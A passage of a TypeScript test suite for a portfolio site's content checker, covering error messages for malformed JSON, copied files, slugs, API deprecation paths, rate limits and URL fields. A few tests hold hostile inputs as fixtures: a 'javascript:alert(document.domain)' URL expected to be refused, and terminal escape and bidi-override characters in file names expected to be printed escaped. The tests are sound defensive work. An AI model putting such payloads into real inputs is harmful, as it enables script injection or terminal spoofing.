      for (const file of ["site.json", "profile.json", "skills.json"]) await writeFile(path.join(content, file), "  \n");
      const result = await loadContent(content, { label: "content" });
      expect((result.ok ? [] : result.problems.map(formatProblem)).filter((line) => line.includes("is empty"))).toEqual(
        ["site.json", "profile.json", "skills.json"].map((file) => `content/${file}: file is empty (write its JSON object in it)`),
      );
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it.each([
    ["a file cut short", '{\n  "slug": "x",\n  "links": {\n    "live": "https://a.example"\n  }\n', "5:4: invalid JSON: the file ends before its JSON does: '}' is missing at the end (close every { with } and every [ with ], in that order, or restore the part that was cut off)"],
    ["a file cut inside a list", '{"slug": "x", "proofPoints": ["a", "b"', "1:39: invalid JSON: the file ends before its JSON does: ']}' is missing at the end (close every { with } and every [ with ], in that order, or restore the part that was cut off)"],
    ["a file cut inside a text", '{"slug": "x", "title": "Alpha', `1:30: invalid JSON: the file ends inside a text: its closing '"', then '}', is missing (close the text with a straight double quote '"')`],
    ["single quotes", "{'slug': 'x'}", `1:2: invalid JSON: a single quote where JSON needs a double quote '"' (write keys and texts in double quotes, as "slug": "my-project")`],
    ["a key without quotes", '{slug: "x"}', '1:2: invalid JSON: the key slug has no quotes (write it as "slug")'],
    ["text after the object", '{"slug": "x"}}', "1:14: invalid JSON: there is more after the JSON object has ended ('}') (remove it; an extra } or ] closes the object early)"],
  ])("names %s, not a missing comma or property name", async (_name, text, message) => {
    expect(await alphaLinesFor(text)).toEqual([`content/projects/alpha.json:${message}`]);
  });

  // Other locales' smart quotes: German and Polish low-9 quotes, French and Swiss guillemets, a
  // CJK input method's full-width quote. Each is named where it is, not as a property name.
  it.each([
    ["a key in German single quotes", "{\u201aslug\u2018: \"x\"}", "1:2: invalid JSON: curly quote '\u201a' where JSON needs a straight double quote '\"'"],
    ["a key in guillemets", "{\u00abslug\u00bb: \"x\"}", "1:2: invalid JSON: typographic quote '\u00ab' where JSON needs a straight double quote '\"'"],
    ["a text in guillemets", '{"slug": "x", "title": \u00ab Alpha \u00bb}', "1:24: invalid JSON: typographic quote '\u00ab' where JSON needs a straight double quote '\"'"],
    ["a key in full-width quotes", "{\uff02slug\uff02: \"x\"}", "1:2: invalid JSON: typographic quote '\uff02' where JSON needs a straight double quote '\"'"],
  ])("names %s, and the straight quote to use", async (_name, text, message) => {
    const hint = message.includes("typographic")
      ? '(replace every typographic quote around a key or a text with a straight "; keyboard layouts and smart-quote settings make them)'
      : '(replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)';
    expect(await alphaLinesFor(text)).toEqual([`content/projects/alpha.json:${message} ${hint}`]);
  });

  // Guillemets inside a text are French, Swiss or Russian punctuation, not a slip: a mistake
  // elsewhere in such a text is told as it is, never blamed on them.
  it.each([
    ["a text with guillemets left open", '{"slug": "x", "title": "Alpha", "summary": "Un outil \u00ab rapide \u00bb pour tous,\n"lane": "a"}', "1:75: invalid JSON: a text has a line break inside it, which JSON does not allow (close its quote on the same line, or write the line break as \\n)"],
    ["a text with tight guillemets left open", '{"slug": "x", "title": "Alpha", "summary": "\u00abrapide\u00bb pour tous,\n"lane": "a"}', "1:64: invalid JSON: a text has a line break inside it, which JSON does not allow (close its quote on the same line, or write the line break as \\n)"],
    ["a comma missing after a text with guillemets", '{"slug": "x", "title": "Un \u00ab rapide \u00bb " "lane": "a"}', "1:41: invalid JSON: a comma is missing before this value (JSON separates items with commas: add one)"],
  ])("names %s as that, not as a guillemet", async (_name, text, message) => {
    expect(await alphaLinesFor(text)).toEqual([`content/projects/alpha.json:${message}`]);
  });

  it("names curly quotes, where they are, and the straight quote to use, not a missing property name", async () => {
    expect(await linesOf("smart-quotes")).toMatchInlineSnapshot(`
      [
        "content/site.json:1:42: invalid JSON: the curly quote '”' was meant to close a key or a text, but JSON closes them only with a straight double quote '"' (replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)",
        "content/site.json: 1 project file's lane and tier are checked once site.json's problems are fixed",
        "content/skills.json:3:34: invalid JSON: the curly quote '”' was meant to close a key or a text, but JSON closes them only with a straight double quote '"' (replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)",
        "content/projects/beta.json:1:3: invalid JSON: curly quote '“' where JSON needs a straight double quote '"' (replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)",
        "content/projects/delta.json:4:9: invalid JSON: the curly quote '”' was meant to close a key or a text, but JSON closes them only with a straight double quote '"' (replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)",
        "content/projects/gamma.json:4:19: invalid JSON: the curly quote '”' was meant to close a key or a text, but JSON closes them only with a straight double quote '"' (replace every curly quote around a key or a text with a straight "; word processors and smart-quote settings make them)",
      ]
    `);
  });

  it("reads lanes or tiers typed as text as the list they name, counted only when a list", async () => {
    expect(await linesOf("lists-as-text")).toMatchInlineSnapshot(`
      [
        "content/site.json → lanes: expected a list of lane slugs, such as ["builder", "client"], got string "builder, client"",
        "content/site.json → tiers[0]: 'featured, archive' holds 2 names in one entry: write each as its own, ["featured", "archive"]",
      ]
    `);
  });

  it("holds translated fields back while translations may be there under a misspelt key, saying so once", async () => {
    expect(await linesOf("translations-misspelt")).toMatchInlineSnapshot(`
      [
        "content/site.json → transaltions: unknown field (did you mean 'translations'?)",
        "content/site.json → translations: 1 project file holds 'fr' translations (titleFr, summaryFr), checked once site.json's problems are fixed (list "fr" in translations)",
      ]
    `);
  });

  it("calls a file manager's duplicate a copy, and offers a free name instead of overwriting the original", async () => {
    expect(await linesOf("finder-copies")).toMatchInlineSnapshot(`
      [
        "content/site copy.json: looks like a copy of site.json; only site.json is read (delete it, or move what you need from it into site.json)",
        "content/projects/alpha copy 2.json: looks like a copy of alpha.json (delete it, or rename it to a new slug such as alpha-2.json and set slug to 'alpha-2')",
        "content/projects/alpha copy.json: looks like a copy of alpha.json (delete it, or rename it to a new slug such as alpha-3.json and set slug to 'alpha-3')",
        "content/projects/alpha_old.json: file name 'alpha_old' is not a slug, which is lowercase letters, digits and single hyphens (alpha.json exists: delete this file if it is a copy, or rename it to alpha-old.json and set slug to 'alpha-old')",
        "content/projects/beta (1).json: looks like a copy of beta.json (delete it, or rename it to a new slug such as beta-2.json and set slug to 'beta-2')",
        "content/projects/beta-copy.json: looks like a copy of beta.json (delete it, or rename it to a new slug such as beta-3.json and set slug to 'beta-3')",
        "content/projects/alpha_old.json → slug: 'alpha' is already used by content/projects/alpha.json",
      ]
    `);
  });

  it("blames a copy named as no file manager this knows names one, never the original it shares a slug with", async () => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      // Both sort before alpha.json, which was once told its slug was the copy's.
      for (const copy of ["Kopie von alpha.json", "alpha Kopie.json"]) await cp(path.join(content, "projects", "alpha.json"), path.join(content, "projects", copy));
      const result = await loadContent(content, { label: "content" });
      const notSlug = "is not a slug, which is lowercase letters, digits and single hyphens (alpha.json exists: delete this file if it is a copy, or rename it to";
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([
        `content/projects/Kopie von alpha.json: file name 'Kopie von alpha' ${notSlug} kopie-von-alpha.json and set slug to 'kopie-von-alpha')`,
        `content/projects/alpha Kopie.json: file name 'alpha Kopie' ${notSlug} alpha-kopie.json and set slug to 'alpha-kopie')`,
        "content/projects/Kopie von alpha.json → slug: 'alpha' is already used by content/projects/alpha.json",
        "content/projects/alpha Kopie.json → slug: 'alpha' is already used by content/projects/alpha.json",
      ]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("says how to write a lane, tier or key given in another case or spacing, and what a slip likely meant", async () => {
    expect(await linesOf("closed-set-case")).toMatchInlineSnapshot(`
      [
        "content/projects/alpha.json → tier: 'featurd' is not a tier of this site: flagship, featured, archive (content/site.json → tiers); did you mean 'featured'?",
        "content/projects/alpha.json → links.Live: unknown field (write it as 'live'; allowed: live, github, caseStudy, appStore, playStore)",
        "content/projects/beta.json → lane: 'AI Tools': write it as 'ai-tools' (a lane is matched exactly)",
        "content/projects/beta.json → tier: 'Flagship': write it as 'flagship' (a tier is matched exactly)",
        "content/projects/beta.json → summary: required field is missing",
        "content/projects/beta.json → Summary: unknown field (write it as 'summary')",
      ]
    `);
  });

  it("never tells an entry or a key to be written as one its list or object already has: it is told to go, or to be merged", async () => {
    expect(await linesOf("spelling-already-given")).toMatchInlineSnapshot(`
      [
        "content/site.json → lanes[1]: 'Client' is 'client', which lanes already lists at [2]: remove it",
        "content/site.json → lanes[3]: 'BUILDER' is 'builder', which lanes already lists at [0]: remove it",
        "content/site.json → lanes[4]: 'Data, Client' holds 2 names in one entry: write each as its own, ["data"] (lanes already lists 'client' at [2])",
        "content/site.json → tiers[0]: 'Featured' is not a slug: write it as 'featured' (lowercase letters, digits and single hyphens)",
        "content/site.json → tiers[1]: 'FEATURED' is 'featured', which tiers already lists at [0] (as 'Featured'): remove it",
        "content/site.json → tiers[3]: 'archivé' is 'archive', which tiers already lists at [2]: remove it",
        "content/site.json → tiers[4]: 'Featured, Archive' is 'featured' and 'archive', which tiers already lists at [0] (as 'Featured') and [2]: remove it",
        "content/projects/alpha.json → links.Live: unknown field (it is 'live' in another case, which links has too: merge it into 'live'; allowed: live, github, caseStudy, appStore, playStore)",
        "content/projects/alpha.json → Title: unknown field (it is 'title' in another case, which this file has too: merge it into 'title')",
        "content/projects/beta.json → summay: unknown field (did you mean 'summary', which this file has too?)",
      ]
    `);
  });

  it("says to write links as {} when there are none, badge as null or not at all for no badge, and an empty optional text not at all", async () => {
    expect(await linesOf("links-missing-badge-empty")).toMatchInlineSnapshot(`
      [
        "content/projects/beta.json → role: must not be empty: leave the field out when there is none",
        "content/projects/beta.json → badge: must not be empty: use null, or leave badge out, for no badge",
        "content/projects/beta.json → links: required field is missing: add "links": {} when there are none",
      ]
    `);
  });

  it("says to write a required list as [] when there are none, and nothing more where a key beside it is its slip", async () => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      /** Rewrite `file` without `keys` (and with `extra`). */
      const without = async (file: string, keys: string[], extra: object = {}) => {
        const value = JSON.parse(await readFile(path.join(content, file), "utf8")) as Record<string, unknown>;
        for (const key of keys) delete value[key];
        await writeFile(path.join(content, file), JSON.stringify({ ...value, ...extra }));
      };
      await without("skills.json", ["certifications", "domains"]);
      await without("profile.json", ["roles", "title"], { role: ["Developer"] });
      const result = await loadContent(content, { label: "content" });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([
        "content/profile.json → title: required field is missing",
        "content/profile.json → roles: required field is missing",
        "content/profile.json → role: unknown field (did you mean 'roles'?)",
        'content/skills.json → certifications: required field is missing: add "certifications": [] when there are none',
        'content/skills.json → domains: required field is missing: add "domains": [] when there are none',
      ]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("refuses a deprecated path no route answers or with a slug no project has, with the path meant, and keeps those that fit a route", async () => {
    expect(await linesOf("deprecation-unknown-path")).toMatchInlineSnapshot(`
      [
        "content/site.json → deprecations[0].path: '/api/helth' is no path of this API, so it would deprecate nothing (did you mean '/api/health'?)",
        "content/site.json → deprecations[1].path: '/api/v1/project/alpha' is no path of this API, so it would deprecate nothing (did you mean '/api/v1/projects/alpha'?)",
        "content/site.json → deprecations[2].path: '/api/v2/*' starts no path of this API, so it would deprecate nothing (did you mean '/api/v1/*'?)",
        "content/site.json → deprecations[3].path: '/api/v1/projects/alpah': no project has the slug 'alpah', so it would deprecate nothing (did you mean '/api/v1/projects/alpha'?)",
        "content/site.json → deprecations[4].path: '/api/v1/projects/omega': no project has the slug 'omega', so it would deprecate nothing (the projects' slugs are alpha, beta)",
        "content/site.json → deprecations[5].path: '/api/v1/projects/alpah*' starts no path of this API, so it would deprecate nothing (did you mean '/api/v1/projects/alpha*'?)",
        "content/site.json → deprecations[9].path: '/api/v1/health%2F' is an escaped spelling of an API path, which the CDN's header rules do not match, so only the function's answers would be deprecated (write it as the API writes it: '/api/v1/health')",
        "content/site.json → deprecations[10].path: '/api/v1/pr%6Fjects%2F*' is an escaped spelling of an API path, which the CDN's header rules do not match, so only the function's answers would be deprecated (write it as the API writes it: '/api/v1/projects/*')",
        "content/site.json → deprecations[11].path: '/api/v1/helth%2F' is no path of this API, so it would deprecate nothing (did you mean '/api/v1/health'?)",
        "content/site.json → deprecations[12].path: '/api/v1/health%25' is no path of this API, so it would deprecate nothing (did you mean '/api/v1/health'?)",
        "content/site.json → deprecations[13].path: '/api/v1/health%2F%2F' is no path of this API, so it would deprecate nothing (did you mean '/api/v1/health'?)",
        "content/site.json → deprecations[14].path: '/api/v1/projects/%7Bslug%7D': no project has the slug '%7Bslug%7D', so it would deprecate nothing (the projects' slugs are alpha, beta)",
      ]
    `);
  });

  it("refuses a replacement link under /api/ that no route answers, and leaves links elsewhere to the owner", async () => {
    expect(goodPaths).toMatch(/^\/api\/v1\/health, \/api\/health, \/api\/v1\/profile, \/api\/v1\/projects, \/api\/v1\/projects\/\{slug\}, .*\/api\/mcp$/);
    expect(await linesOf("deprecation-unknown-link")).toEqual([
      "content/site.json → deprecations[0].link: '/api/v1/helth' is no path of this API, so the Link header would lead to a 404 (did you mean '/api/v1/health'?)",
      "content/site.json → deprecations[1].link: '/api/v1/projects/alpah': no project has the slug 'alpah', so the Link header would lead to a 404 (did you mean '/api/v1/projects/alpha'?)",
      "content/site.json → deprecations[6].link: 'https://fixture.example.com/api/v1/helth' is no path of this API, so the Link header would lead to a 404 (did you mean '/api/v1/health'?)",
      `content/site.json → deprecations[8].link: '/api' is no path of this API, so the Link header would lead to a 404 (the API's paths are ${goodPaths})`,
    ]);
  });

  it("checks the deprecated paths beside entries broken in shape, so every problem shows at once, each at its own index", async () => {
    expect(await linesOf("deprecation-beside-broken")).toMatchInlineSnapshot(`
      [
        "content/site.json → deprecations[1].path: '/api/health/': write it without the trailing slash: '/api/health', or '/api/health/*' for everything under it",
        "content/site.json → deprecations[3].deprecation: '01/01/2026': expected a date as YYYY-MM-DD",
        "content/site.json → deprecations[0].path: '/api/helth' is no path of this API, so it would deprecate nothing (did you mean '/api/health'?)",
        "content/site.json → deprecations[2].path: '/api/v1/projects/alpah': no project has the slug 'alpah', so it would deprecate nothing (did you mean '/api/v1/projects/alpha'?)",
      ]
    `);
  });

  it("lists the API's paths, from its route table, when no path is close to a deprecated one", async () => {
    const work = await makeWorkDir();
    try {
      const built = await buildSite({ contentDir: path.join(work, "content"), outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      if (!built.ok) throw new Error(built.problems.map(formatProblem).join("\n"));
      const routes = createApp(built.index).routes;
      const patterns = [...new Set(routes.map((route) => route.pattern))].join(", ");
      expect(findUnroutedPaths("content/site.json", [{ path: "/old/portfolio" }], routes).map(formatProblem)).toEqual([
        `content/site.json → deprecations[0].path: '/old/portfolio' is no path of this API, so it would deprecate nothing (the API's paths are ${patterns})`,
      ]);
      // A prefix must start a path some route answers; a parameter takes one whole segment.
      const starts = (prefix: string) => findUnroutedPaths("content/site.json", [{ path: `${prefix}*` }], routes).length === 0;
      const slug = built.index.projects[0]!.slug;
      expect(["/", "/api/", "/api/he", `/api/v1/projects/${slug}`, "/api/v1/projects/", "/api/v2/", `/api/v1/projects/${slug}/`].map(starts)).toEqual([true, true, true, true, true, false, false]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("refuses a slug no item of an added section has, in the section's own words, and keeps a prefix that covers its items to come", async () => {
    const sections = await contentWithSections(path.resolve("test/fixtures/content/valid"));
    const out = await mkdtemp(path.join(tmpdir(), "portfolio-sections-dist-"));
    try {
      const built = await buildSite({ contentDir: sections.dir, outDir: out, indexModule: false, contentLabel: "content", env: ENV, kinds: KINDS_WITH_SECTIONS, app: { resources: RESOURCES_WITH_SECTIONS } });
      if (!built.ok) throw new Error(built.problems.map(formatProblem).join("\n"));
      const routes = createApp(built.index, { resources: RESOURCES_WITH_SECTIONS }).routes;
      const nouns = collectItemNouns(RESOURCES_WITH_SECTIONS);
      // fixture-papers has the fixture's items; fixture-talks has none yet.
      const slug = routes.find((route) => route.pattern === "/api/v1/fixture-papers/{slug}")!.pathValues!["slug"]![0]!;
      const typo = `${slug.slice(0, -1)}x`;
      const lines = (paths: string[]) => findUnroutedPaths("content/site.json", paths.map((at) => ({ path: at })), routes, nouns).map(formatProblem);
      expect(lines([`/api/v1/fixture-papers/${typo}`, "/api/v1/fixture-talks/intro", `/api/v1/fixture-papers/${slug}`, "/api/v1/fixture-talks/*", "/api/v1/fixture-papers/*"])).toEqual([
        `content/site.json → deprecations[0].path: '/api/v1/fixture-papers/${typo}': no fixture paper has the slug '${typo}', so it would deprecate nothing (did you mean '/api/v1/fixture-papers/${slug}'?)`,
        "content/site.json → deprecations[1].path: '/api/v1/fixture-talks/intro': no fixture talk has the slug 'intro', so it would deprecate nothing (there are no fixture talks yet)",
      ]);
    } finally {
      await sections.remove();
      await rm(out, { recursive: true, force: true });
    }
  });

  /** A section as docs/adding-a-resource.md has an owner add one, its `url` field declared by `url`. */
  // Named as no recipe would name an owner's section, so it never meets one in CONTENT_KINDS.
  const talks = (url: z.ZodType): ContentKind => ({
    id: "fixture-talk",
    place: { folder: "fixture-talks" },
    schema: z.strictObject({ slug: z.string(), title: z.string(), url: url.optional() }),
    description: "One fixture talk.",
    section: { resource: "fixture-talks", toIndex: (values) => values, responses: {} },
  });
  /** What `npm run check` (loadContent) prints for the fixture talks of broken/section-url-javascript, with `kind` added. */
  async function checkWith(kind: ContentKind): Promise<string[]> {
    const work = await makeWorkDir();
    try {
      const result = await loadContent(await applyCase(work, "section-url-javascript"), { label: "content" }, [...CONTENT_KINDS, kind]);
      return result.ok ? [] : result.problems.map(formatProblem);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  }

  it("refuses javascript: in a section's URL field made by httpUrlField(), as in every built-in one", async () => {
    expect(await checkWith(talks(httpUrlField()))).toMatchInlineSnapshot(`
      [
        "content/fixture-talks/intro.json → url: 'javascript:alert(document.domain)': expected an absolute http(s) URL",
      ]
    `);
  });

  it("refuses a section's URL field declared with zod's z.url(), which would let javascript: through", async () => {
    expect(await checkWith(talks(z.url()))).toMatchInlineSnapshot(`
      [
        "content/fixture-talks/<slug>.json → url: the 'fixture-talk' kind declares it with zod's URL type, which accepts javascript: and every other scheme, yet the content reference calls it an http(s) URL checked by httpUrlField()'s rule (declare it with httpUrlField() from build/content/url-field.ts; see "URL fields" in docs/adding-a-resource.md)",
      ]
    `);
  });

  // z.httpUrl() refuses javascript: itself, so saying it does not would send the author the wrong way.
  it("gives z.httpUrl() and a hand-made format: uri each its own reason", async () => {
    const [http] = await checkWith(talks(z.httpUrl()));
    expect(http).toMatch(/the 'fixture-talk' kind declares it with zod's http\(s\) URL type \(z\.httpUrl\(\)\), which keeps a user name and password/);
    expect(http).not.toMatch(/javascript/);
    const [marked] = await checkWith(talks(z.string().meta({ format: "uri" })));
    expect(marked).toMatch(/the 'fixture-talk' kind marks it format: "uri" by hand, which checks nothing/);
    const [narrowed] = await checkWith(talks(z.url({ protocol: /^https?$/ })));
    expect(narrowed).toMatch(/z\.httpUrl\(\)/);
  });

  it("refuses a lazy z.url() once, though its getter makes a new schema each time it is read", async () => {
    const lines = await checkWith(talks(z.lazy(() => z.url())));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^content\/fixture-talks\/<slug>\.json → url: the 'fixture-talk' kind declares it with zod's URL type/);
  });

  it("finds no URL field but httpUrlField()'s in the built-in kinds, and each other kind of zod URL where it is nested", () => {
    expect(CONTENT_KINDS.flatMap((kind) => findForeignUrlFields(kind.schema))).toEqual([]);
    const schema = z.strictObject({
      made: httpUrlField().optional().describe("fine"),
      bare: z.url(),
      http: z.httpUrl().nullable(),
      check: z.string().url(),
      marked: z.string().meta({ format: "uri" }),
      nested: z.array(z.strictObject({ url: z.url().optional() })),
      either: z.union([z.url(), z.null()]),
      later: z.lazy(() => z.url()),
    });
    // Each field once, a lazy one too.
    expect(findForeignUrlFields(schema)).toEqual(["bare", "http", "check", "marked", "nested[].url", "either", "later"]);
  });

  it.each([
    ["alpha copy", "alpha"],
    ["alpha copy 2", "alpha"],
    ["alpha 2", "alpha"],
    ["alpha (1)", "alpha"],
    ["alpha - Copy", "alpha"],
    ["alpha - Copy (2)", "alpha"],
    ["alpha (copy)", "alpha"],
    ["alpha (another copy)", "alpha"],
    ["alpha (3rd copy)", "alpha"],
    ["Copy of alpha", "alpha"],
    ["Copy (2) of alpha", "alpha"],
    ["alpha-copy", "alpha"],
    ["alpha_copy_2", "alpha"],
    ["alpha-2", undefined],
    ["alphacopy", undefined],
    ["gamma copy", undefined],
  ])("takes '%s' for a copy of %s when the names beside it are alpha and beta", (name, original) => {
    expect(copiedFrom(name, new Set(["alpha", "beta"]))).toBe(original);
  });

  it("holds an added section's file names to the projects' rules: a copy is called a copy, and no fix renames onto a file that exists", async () => {
    const content = await contentWithSections();
    try {
      const folder = path.join(content.dir, "fixture-papers");
      const [first, second] = (await readdir(folder)).sort();
      if (!first || !second) throw new Error("the fixture papers need two files");
      const [a, b] = [first.replace(/\.json$/, ""), second.replace(/\.json$/, "")];
      await cp(path.join(folder, first), path.join(folder, `${a} copy.json`));
      const other = JSON.parse(await readFile(path.join(folder, second), "utf8"));
      await writeFile(path.join(folder, second), JSON.stringify({ ...other, slug: a }));
      const result = await loadContent(content.dir, { label: "content" }, KINDS_WITH_SECTIONS);
      const lines = (result.ok ? [] : result.problems.map(formatProblem)).filter((line) => line.includes("fixture-papers/"));
      expect(lines).toEqual([
        expect.stringMatching(new RegExp(`^content/fixture-papers/${a} copy\\.json: looks like a copy of ${a}\\.json \\(delete it, or rename it to a new slug such as [a-z0-9-]+\\.json and set slug to '[a-z0-9-]+'\\)$`)),
        `content/fixture-papers/${second} → slug: '${a}' does not match the file name (set slug to '${b}')`,
      ]);
    } finally {
      await content.remove();
    }
  });

  it("tells a file named no slug to take the slug it writes, even when the file or site.json is broken", async () => {
    const work = await makeWorkDir();
    try {
      const content = path.join(work, "content");
      const alpha = JSON.parse(await readFile(path.join(content, "projects/alpha.json"), "utf8"));
      // A translation site.json does not declare: the file fails its schema, but its slug is still its own.
      await writeFile(path.join(content, "projects/Foo-Bar.json"), JSON.stringify({ ...alpha, slug: "foo-bar", titleFr: "Foo" }));
      for (const brokenSite of [false, true]) {
        if (brokenSite) await writeFile(path.join(content, "site.json"), (await readFile(path.join(content, "site.json"), "utf8")).replace("{", "{,"));
        const result = await loadContent(content, { label: "content" });
        const line = (result.ok ? [] : result.problems.map(formatProblem)).find((text) => text.includes("Foo-Bar.json: file name"));
        expect(line, `site.json broken: ${brokenSite}`).toBe("content/projects/Foo-Bar.json: file name 'Foo-Bar' is not a slug, which is lowercase letters, digits and single hyphens (rename it to foo-bar.json)");
      }
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("says a baseUrl on localhost is this computer, not that it is no absolute URL", async () => {
    expect(await linesOf("base-url-localhost")).toMatchInlineSnapshot(`
      [
        "content/site.json → baseUrl: 'http://localhost:8888': the host 'localhost' is this computer, which no one else can reach; expected a public domain name such as example.com",
      ]
    `);
  });
});

describe("site.json's rateLimit, refused with what it accepts", () => {
  const EXPECTED = `expected false to turn the limit off, or an object { "windowLimit": requests, a whole number of at least 1, "windowSize": seconds, a whole number from 1 to ${MAX_WINDOW_SECONDS} } to set it; leave rateLimit out for the default (${DEFAULT_RATE_LIMIT.windowLimit} requests per ${DEFAULT_RATE_LIMIT.windowSize} seconds)`;

  /** What `npm run check` prints for the valid set with site.json's rateLimit set to `value`. */
  async function checkRateLimit(value: unknown): Promise<string[]> {
    const work = await makeWorkDir();
    try {
      const site = JSON.parse(await readFile(path.join(work, "content", "site.json"), "utf8")) as Record<string, unknown>;
      await writeFile(path.join(work, "content", "site.json"), JSON.stringify({ ...site, rateLimit: value }));
      const result = await loadContent(path.join(work, "content"), { label: "content" });
      return result.ok ? [] : result.problems.map(formatProblem);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  }

  it.each([
    [true, "true: "],
    [null, "null: "],
    [300, "300: "],
    ["off", "'off': "],
    [[], ""],
  ])("names the field and both accepted forms for %j", async (value, shown) => {
    expect(await checkRateLimit(value)).toEqual([`content/site.json → rateLimit: ${shown}${EXPECTED}`]);
  });

  it("names the field inside an object that is wrong, not the union", async () => {
    expect(await checkRateLimit({ windowLimit: 10 })).toEqual(["content/site.json → rateLimit.windowSize: required field is missing"]);
    expect(await checkRateLimit({ windowLimit: 1.5, windowSize: 60 })).toEqual(["content/site.json → rateLimit.windowLimit: expected a whole number of requests, got number 1.5"]);
    expect(await checkRateLimit({ windowLimit: 10, windowSize: 60, aggregateBy: "ip" })).toEqual(["content/site.json → rateLimit.aggregateBy: unknown field (allowed: windowLimit, windowSize)"]);
    expect(await checkRateLimit({ windowLimit: 10, windowSize: 600 })).toEqual([`content/site.json → rateLimit.windowSize: 600: must be at most ${MAX_WINDOW_SECONDS}: Netlify's longest window`]);
  });

  it("accepts false and an object in range", async () => {
    expect(await checkRateLimit(false)).toEqual([]);
    expect(await checkRateLimit({ windowLimit: 1, windowSize: MAX_WINDOW_SECONDS })).toEqual([]);
  });
});

describe("the build command on broken content", () => {
  const tsx = path.resolve("node_modules/.bin/tsx");
  // The deployment's URL would override site.json; these runs must see the content alone.
  const env = { ...process.env, ...ENV, URL: "", SITE_URL: "" };

  // One plain case, the 10 MB file, and the three that used to crash the command (several-files
  // runs through it in build.test.ts); each run costs a process start, so the rest use buildSite().
  // Then one case of each mistake that used to build (issue 20): an empty case study, the
  // new-project placeholder, a comment.
  it.each(["invalid-json", "ten-megabyte-file", "projects-is-a-file", "symlink-folder-outside", "base-url-with-path", "case-study-empty", "new-project-placeholder-left", "comments-in-json"])(
    "exits 1 on %s, prints every problem and no stack trace, and leaves dist/ as it was",
    async (name) => {
      const work = await prepareCase(name);
      try {
        const failure = await runGroup(tsx, [path.resolve("build/build.ts")], { cwd: work, env });
        const lines = ALL_CASES.find(([caseName]) => caseName === name)?.[1] ?? [];
        const count = `${lines.length} problem${lines.length === 1 ? "" : "s"}`;
        expect(failure.code).toBe(1);
        expect(failure.stdout).toBe("");
        expect(failure.stderr).toBe(`Build failed: ${count} in content/ (dist/ was not changed)\n${lines.map((line) => `  ${line}\n`).join("")}`);
        expect(await snapshotTree(path.join(work, "dist"))).toEqual(goodSnapshot);
      } finally {
        await rm(work, { recursive: true, force: true });
      }
    },
  );
});

describe("the terminal", () => {
  const tsx = path.resolve("node_modules/.bin/tsx");
  const env = { ...process.env, ...ENV, URL: "", SITE_URL: "" };
  /** What a terminal would act on: C0 but the line feed, DEL, C1, bidi controls. */
  const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it.each(["build/check.ts", "build/build.ts"])("%s prints control characters in values and file names as escapes, never raw", async (command) => {
    const work = await prepareCase("control-characters-in-names");
    try {
      await writeFile(path.join(work, "content", "notes\u202e\u001b[2J.txt"), "");
      const failure = await runGroup(tsx, [path.resolve(command)], { cwd: work, env });
      expect(failure.code).toBe(1);
      expect(failure.stderr).toContain("content/notes\\u202e\\u001b[2J.txt: not read by the build");
      expect(failure.stderr).toContain("lane: '\\u001b[31mclient' is not a lane of this site");
      expect(failure.stdout + failure.stderr).not.toMatch(ACTIVE);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

describe("the arguments of npm run check, build and docs", () => {
  // Each reads content/ (and writes dist/ or docs/) and nothing else: an argument is a folder or an option it would ignore.
  const commands = [
    ["check", "it checks content/"],
    ["build", "it builds content/ into dist/"],
    ["docs", "it writes what docs/ derives from the declarations"],
  ] as const;
  const cases = commands.flatMap(([command, says]) => ([["a folder", "other-content"], ["an option", "--help"]] as const).map(([what, argument]) => [command, what, argument, says] as const));
  it.each(cases)("npm run %s refuses %s, exit 2, saying what it does and that it takes none", async (command, _what, argument, says) => {
    const work = await prepareCase("control-characters-in-names");
    const dist = path.join(work, "dist");
    const before = await stat(dist).then((found) => found.ino, () => undefined);
    try {
      const refused = await runGroup(path.resolve("node_modules/.bin/tsx"), [path.resolve(`build/${command}.ts`), argument], { cwd: work, env: { ...process.env, ...ENV } });
      expect(refused.code).toBe(2);
      expect(refused.stderr).toBe(`npm run ${command} takes no arguments (got ${argument}): ${says}.\n`);
      expect(refused.stdout).toBe("");
      // Refused before any work: dist/ is the folder it was (a build swaps in a new one), and no docs/ written.
      expect(await stat(dist).then((found) => found.ino, () => undefined)).toBe(before);
      await expect(stat(path.join(work, "docs"))).rejects.toThrow();
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

describe("npm run check and the build's variables", () => {
  // An owner who checks before deploying must not learn of a bad SITE_URL only from the build.
  it("refuses what the build refuses in URL, SITE_URL and SOURCE_DATE_EPOCH, and passes without them", async () => {
    const work = await makeWorkDir();
    const check = (vars: NodeJS.ProcessEnv) => runGroup(path.resolve("node_modules/.bin/tsx"), [path.resolve("build/check.ts")], { cwd: work, env: { ...process.env, URL: "", SITE_URL: "", SOURCE_DATE_EPOCH: "", ...vars } });
    try {
      const refused = await check({ SITE_URL: "ftp://fixture.example.com", SOURCE_DATE_EPOCH: "yesterday" });
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain("Check failed: 2 problems");
      expect(refused.stderr).toContain("SITE_URL: 'ftp://fixture.example.com': expected an absolute http(s) URL (fix or unset the SITE_URL environment variable)");
      expect(refused.stderr).toContain("SOURCE_DATE_EPOCH: 'yesterday' is not whole seconds since 1970");
      const local = await check({ URL: "http://localhost:8888" });
      expect([local.code, local.stderr]).toEqual([1, expect.stringContaining("URL: 'http://localhost:8888': the host 'localhost' is this computer")]);
